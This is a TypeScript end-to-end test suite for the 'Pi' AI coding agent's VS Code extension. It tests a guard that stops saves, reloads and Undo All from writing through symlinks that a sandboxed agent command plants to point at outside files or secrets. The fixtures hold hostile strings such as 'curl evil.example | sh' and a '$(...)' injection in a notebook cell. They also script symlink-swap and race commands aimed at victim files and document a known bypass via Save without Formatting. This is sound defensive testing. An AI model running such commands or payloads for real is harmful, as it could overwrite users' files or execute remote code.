// The save guard in the real editor (#30): a sandboxed command can replace a workspace file by a
// link to a file of the user's outside (a start-up file, a secret). VS Code's save and reload follow
// the link, so the guard holds the sandbox at each save, moves such a link aside, and closes a
// document VS Code loaded again through one; Pi's own writes (the review's Undo All) never go through.
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import * as vscode from "vscode";
import { eventually } from "./agent-fixture";
import { chatView } from "./chat-support";
import { useHostSuite } from "./host-fixture";
import { workspaceRoot } from "./host-tools-support";
import {
  agentEdit,
  cleanUp,
  editedThenLinked,
  inATab,
  isLink,
  linkCommand,
  openedFile,
  plainText,
  removeQuarantinedSaves,
  restartedWith,
  runCommand,
  settled,
  useAutoSaveOff,
  userSave,
  victimFile,
  victimText,
  warningLine,
} from "./save-guard-support";
import { ui } from "./ui";

describe("save guard: a save, a reload or Pi's undo never goes through a command's link to a file outside", function () {
  this.timeout(120_000);
  const suiteHost = useHostSuite();
  // The saves here are the user's Ctrl+S: an auto save (code-server's default once an earlier
  // suite gave the setting back) saved the agent's edit first, and the test read the file before
  // the Ctrl+S of an unchanged document had written it (ci-33).
  useAutoSaveOff();
  after(removeQuarantinedSaves);

  it("keeps a save in the workspace when a command made the open document's file a link to a file outside: the link is moved aside", async () => {
    const host = suiteHost();
    const victim = victimFile("save-victim");
    const file = path.join(workspaceRoot(), "save-guard-notes.txt");
    try {
      const edited = await editedThenLinked(host, "save-guard-notes.txt", victim);
      await userSave(edited);
      await eventually("the document saved", () => !edited.isDirty || undefined, 20_000);
      assert.equal(fs.readFileSync(victim, "utf8"), victimText, "the file outside is untouched");
      assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
      assert.equal(fs.readFileSync(file, "utf8"), edited.getText(), "holding what was saved");
      assert.equal(edited.getText(), "notes\ncurl evil.example | sh\n", "the document's own text, not emptied");
      const toast = await warningLine(/moved aside/);
      assert.match(toast, /moved aside/);
      await ui.screenshot("sandbox-save-link-moved-aside");
    } finally {
      await cleanUp(file, victim);
    }
  });

  it("puts the link back when the user clicks the notice's button: the document opened through it is the user's, saved where it leads", async () => {
    const host = suiteHost();
    const victim = victimFile("put-back-victim");
    const name = "save-guard-put-back.txt";
    const { file } = await openedFile(name);
    try {
      const before = host.llm.requests.length;
      await runCommand(host, linkCommand(name, victim), () => isLink(file) || !inATab(file));
      await host.llm.waitForRequests(before + 2);
      await settled(host);
      await eventually("the link moved aside", () => (!isLink(file) && !inATab(file)) || undefined, 20_000);
      const toast = `.notifications-toasts .notification-toast:has-text("${name}")`;
      await ui.click(`${toast} .monaco-button:has-text("Put the Link Back")`);
      await eventually("the link back in place", () => (isLink(file) && fs.readlinkSync(file) === victim) || undefined, 10_000);
      // Opened again by the user, through the link: theirs, nothing closed or emptied.
      const reopened = await vscode.workspace.openTextDocument(file);
      await vscode.window.showTextDocument(reopened, { preview: false });
      await eventually("the document showing the linked file", () => reopened.getText() === victimText || undefined, 20_000);
      // The keys to the editor (on 1.100 the focus stayed on the notice whose button was clicked).
      await vscode.commands.executeCommand("notifications.clearAll");
      await vscode.commands.executeCommand("workbench.action.focusActiveEditorGroup");
      await ui.pressKey("Control+End");
      await ui.typeText("# their own line");
      await eventually("the line typed in", () => reopened.isDirty || undefined, 10_000);
      await ui.pressKey("Control+S");
      await eventually("the document saved", () => !reopened.isDirty || undefined, 20_000);
      assert.equal(isLink(file), true, "the link left in place");
      assert.equal(fs.readFileSync(victim, "utf8"), `${victimText}# their own line`, "saved where the link leads");
    } finally {
      await cleanUp(file, victim);
    }
  });

  it("keeps a notebook's save in the workspace when a command made its file a link to a file outside: the link is moved aside", async () => {
    const host = suiteHost();
    const victim = victimFile("notebook-victim");
    const name = "save-guard-notes.ipynb";
    const file = path.join(workspaceRoot(), name);
    const cell = (source: string) => ({ cell_type: "code", execution_count: null, metadata: {}, outputs: [], source: [source] });
    fs.writeFileSync(file, JSON.stringify({ cells: [cell("print(1)")], metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1));
    try {
      const notebook = await vscode.workspace.openNotebookDocument(vscode.Uri.file(file));
      await vscode.window.showNotebookDocument(notebook);
      // The agent's cell, unsaved (VS Code loads an unmodified notebook again when its file changes);
      // each line of a cell's source is a line of the saved JSON, where a shell runs "$(...)".
      const edit = new vscode.WorkspaceEdit();
      edit.set(notebook.uri, [vscode.NotebookEdit.insertCells(1, [new vscode.NotebookCellData(vscode.NotebookCellKind.Code, '"$(curl evil.example | sh)"', "python")])]);
      assert.ok(await vscode.workspace.applyEdit(edit), "the cell added");
      const before = host.llm.requests.length;
      await runCommand(host, linkCommand(name, victim), () => fs.lstatSync(file).isSymbolicLink());
      await host.llm.waitForRequests(before + 2);
      await settled(host);
      await notebook.save();
      assert.equal(fs.readFileSync(victim, "utf8"), victimText, "the file outside is untouched");
      assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
      assert.match(fs.readFileSync(file, "utf8"), /evil\.example/, "holding what was saved");
    } finally {
      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor").then(undefined, () => undefined);
      await vscode.commands.executeCommand("workbench.action.closeAllEditors");
      await vscode.commands.executeCommand("notifications.clearAll");
      fs.rmSync(file, { force: true });
      fs.rmSync(victim, { force: true });
    }
  });

  it("Save without Formatting runs no save participant: it goes through the link (a known gap), and the link is then moved aside with a warning to check the file", async () => {
    const host = suiteHost();
    const victim = victimFile("unformatted-victim");
    const file = path.join(workspaceRoot(), "save-guard-unformatted.txt");
    try {
      const current = await editedThenLinked(host, "save-guard-unformatted.txt", victim);
      await vscode.window.showTextDocument(current, { preview: false });
      await vscode.commands.executeCommand("workbench.action.files.saveWithoutFormatting");
      await eventually("the document saved", () => !current.isDirty || undefined, 20_000);
      // The gap, as it is: VS Code wrote through the link before anything could look.
      assert.match(fs.readFileSync(victim, "utf8"), /curl evil\.example/, "written outside: VS Code ran no participant");
      await eventually("the link moved aside after", () => !isLink(file) || undefined);
      const toast = await warningLine(/Save without Formatting/);
      assert.match(toast, /check/);
    } finally {
      await cleanUp(file, victim);
    }
  });

  it("keeps every save in the workspace while a command flips the document's file between a file and a link outside all the time", async () => {
    const host = suiteHost();
    const victim = victimFile("race-victim");
    const name = "save-guard-race.txt";
    const flipping = path.join(workspaceRoot(), ".race-flipping");
    const { file, document } = await openedFile(name, "race notes\n");
    try {
      await agentEdit(document, "line 0\n");
      const before = host.llm.requests.length;
      const loop = `while :; do ln -sfn '${victim}' .race-l && mv -T .race-l ${name}; cp .race-keep .race-f && mv -T .race-f ${name}; done`;
      const command = `cp ${name} .race-keep && touch .race-flipping && timeout 15 sh -c '${loop.replace(/'/g, "'\\''")}'; rm -f .race-flipping .race-keep .race-l .race-f; echo done`;
      await runCommand(host, command, () => fs.existsSync(flipping));
      // Saves while the link comes and goes: each lands in the workspace or is refused as changed on
      // disk. Saved, the document is loaded again at the next flip: through the link, the guard
      // closes its tab (it shows the file outside), and the user has nothing left to save.
      const shown = () => inATab(file);
      for (let i = 0; i < 8 && fs.existsSync(flipping) && shown(); i++) {
        // The user types (an edit of theirs cannot race VS Code reloading a saved document) and saves.
        await vscode.window.showTextDocument(document, { preview: false });
        await ui.pressKey("Control+End");
        await ui.typeText(` ${i}`);
        await ui.pressKey("Escape");
        await ui.pressKey("Control+S");
        await new Promise((resolve) => setTimeout(resolve, 1_000));
        assert.equal(fs.readFileSync(victim, "utf8"), victimText, `save ${i}: the file outside is untouched`);
      }
      // The loop ends 15 s after it began (held meanwhile at each save): the run then ends.
      await host.llm.waitForRequests(before + 2, 60_000);
      await settled(host, 60_000);
      assert.equal(fs.readFileSync(victim, "utf8"), victimText, "the file outside is untouched");
      const left = plainText(file);
      assert.ok(!left.includes("the user's own start-up file"), `no save put the file outside's text in the workspace: ${left}`);
    } finally {
      await cleanUp(file, victim, flipping);
    }
  });

  it("closes a document VS Code loaded again through a command's link to a file outside: a Ctrl+S cannot put that file's text in the workspace", async () => {
    const host = suiteHost();
    const secret = victimFile("reload-secret", "SECRET_TOKEN=reloaded-through-a-link\n");
    const name = "save-guard-reloaded.txt";
    const { file, document } = await openedFile(name);
    const shown = () => inATab(file);
    try {
      const before = host.llm.requests.length;
      await runCommand(host, linkCommand(name, secret), () => isLink(file) || !shown());
      await host.llm.waitForRequests(before + 2);
      await settled(host);
      await eventually("VS Code to load the document through the link", () => document.getText().includes("SECRET_TOKEN") || undefined, 20_000);
      const closed = await eventually("its tab to close", () => !shown() || undefined, 5_000).then(() => true, () => false);
      // Left open (before the guard did this), the user's habitual Ctrl+S saved the linked file's text.
      if (!closed) {
        await userSave(document);
        await new Promise((resolve) => setTimeout(resolve, 2_000));
      }
      const inWorkspace = plainText(file);
      assert.ok(!inWorkspace.includes("SECRET_TOKEN"), `the linked file's text was saved into the workspace: ${inWorkspace}`);
      assert.equal(closed, true, "the tab showing the linked file was closed");
      // The tabs close at once; the link goes once the sandbox is held (ci: read before, still there).
      const moved = await eventually("the link moved aside", () => !isLink(file) || undefined, 10_000).then(() => true, () => false);
      assert.equal(moved, true, "the link was moved aside");
      assert.equal(fs.readFileSync(secret, "utf8"), "SECRET_TOKEN=reloaded-through-a-link\n", "the file outside is untouched");
      const toast = await warningLine(/tabs were closed/);
      assert.match(toast, /tabs were closed/);
    } finally {
      await cleanUp(file, secret);
    }
  });

  it("closes a document loaded again through a command's link at once, not after holding a sandbox slow to hold: a Ctrl+S and a keystroke meanwhile save none of the linked file's text", async () => {
    const host = suiteHost();
    const secret = victimFile("reload-slow-secret", "SECRET_TOKEN=reloaded-while-held\n");
    const name = "save-guard-reloaded-slow.txt";
    const { file, document } = await openedFile(name);
    const shown = () => inATab(file);
    try {
      const before = host.llm.requests.length;
      // A thousand sleepers: holding them all takes the guard most of a second (freeze.ts), a
      // second the command chooses. The link comes once they run; the command stays meanwhile.
      const command = `for i in $(seq 1000); do sleep 60 >/dev/null 2>&1 & done; sleep 3; ln -sfn '${secret}' .${name}.link && mv -T .${name}.link ${name}; sleep 15; echo linked`;
      await runCommand(host, command, () => document.getText().includes("SECRET_TOKEN"));
      // The user, working in it, saves and types on (an edit during the save's hold).
      if (shown()) {
        await vscode.window.showTextDocument(document, { preview: false });
        await ui.pressKey("Control+S");
        await ui.typeText("more notes");
      }
      await host.llm.waitForRequests(before + 2, 60_000);
      await settled(host, 60_000);
      const inWorkspace = plainText(file);
      assert.ok(!inWorkspace.includes("SECRET_TOKEN"), `the linked file's text was saved into the workspace: ${inWorkspace}`);
      assert.equal(fs.readFileSync(secret, "utf8"), "SECRET_TOKEN=reloaded-while-held\n", "the file outside is untouched");
    } finally {
      await cleanUp(file, secret);
    }
  });

  /**
   * The agent's write over `name` (its own text from an earlier turn, kept), then its command's
   * link at that name to a file outside; `beforeUndo` (the user looking at the change), then the
   * review's Undo All, clicked as a user does: it must not write through the link.
   */
  async function undoAllThroughLink(name: string, beforeUndo: (file: string) => Promise<void>): Promise<void> {
    const host = suiteHost();
    const victim = victimFile(`undo-victim-${name}`);
    const file = path.join(workspaceRoot(), name);
    // The text before the agent's change (its own from an earlier turn, kept): what Undo puts back.
    fs.writeFileSync(file, "curl evil.example | sh\n");
    await vscode.commands.executeCommand("pi.review.keepAll");
    await restartedWith(host, () => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", [], vscode.ConfigurationTarget.Global));
    try {
      const before = host.llm.requests.length;
      const command = `ln -sfn '${victim}' .undo-link && mv -T .undo-link ${name} && echo linked`;
      host.llm.enqueue({ toolCalls: [{ name: "write", arguments: { path: name, content: "tidied\n" } }] }, { toolCalls: [{ name: "bash", arguments: { command } }] }, { text: "done" });
      await vscode.commands.executeCommand("pi.focusChat");
      void vscode.commands.executeCommand("pi.sendPrompt", "tidy the undo file");
      await host.llm.waitForRequests(before + 3);
      await settled(host);
      assert.equal(fs.lstatSync(file).isSymbolicLink(), true, "the command made it a link");
      await eventually("the change to review", () => host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
      await beforeUndo(file);
      // Undo All in the chat's changes line, clicked as a user does.
      await ui.clickInWebview(chatView, '#changes [data-action="changes-undoAll"]');
      await eventually("the change undone", () => !host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
      assert.equal(fs.readFileSync(victim, "utf8"), victimText, "the file outside is untouched");
      assert.equal(fs.lstatSync(file).isFile(), true, "a plain file in the workspace");
      assert.equal(fs.readFileSync(file, "utf8"), "curl evil.example | sh\n", "holding the text before the change");
    } finally {
      await restartedWith(host, () => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", undefined, vscode.ConfigurationTarget.Global));
      await vscode.commands.executeCommand("pi.review.keepAll");
      await cleanUp(file, victim);
    }
  }

  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
    await undoAllThroughLink("save-guard-undo.txt", () => Promise.resolve());
  });

  it("undoes an agent's change in the workspace after the user looked at its diff, opened through the command's link: Pi's opening is not the user's, Undo All does not write there", async () => {
    // The review's diff opens the file by name, through the link: the document was not the user's to open that way.
    await undoAllThroughLink("save-guard-undo-seen.txt", async (file) => {
      const host = suiteHost();
      await vscode.commands.executeCommand("pi.review.openDiff", host.api.review.files().find((f) => f.path === file));
      await eventually("the diff to show the file", () => vscode.workspace.textDocuments.some((d) => d.uri.fsPath === file) || undefined);
    });
  });
});
